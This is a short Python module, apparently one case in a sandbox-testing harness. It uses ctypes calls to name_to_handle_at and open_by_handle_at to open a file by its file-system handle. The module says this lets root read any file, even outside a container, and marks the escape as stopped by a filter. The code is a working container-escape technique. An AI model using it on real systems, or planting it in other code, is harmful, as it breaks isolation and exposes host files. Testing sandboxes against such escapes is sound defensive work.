"""Open a file by its number in the file system, past every folder above it."""

from __future__ import annotations

import ctypes
import os
import struct
from typing import Any

EVIDENCE = "leaked"
STOPPED_BY = "filter"
MEANS = "as root it reads every file, also outside of a container"


def attack(at: Any) -> object:
    at.libc.open_by_handle_at.restype = ctypes.c_int
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("=I", handle, 0, 128)
    mount = ctypes.c_int()
    at.checked(at.libc.name_to_handle_at(-100, os.fsencode(at.key), handle, ctypes.byref(mount), 0))
    folder = os.open(at.home, os.O_RDONLY)
    with os.fdopen(at.checked(at.libc.open_by_handle_at(folder, handle, os.O_RDONLY))) as file:
        return file.read()
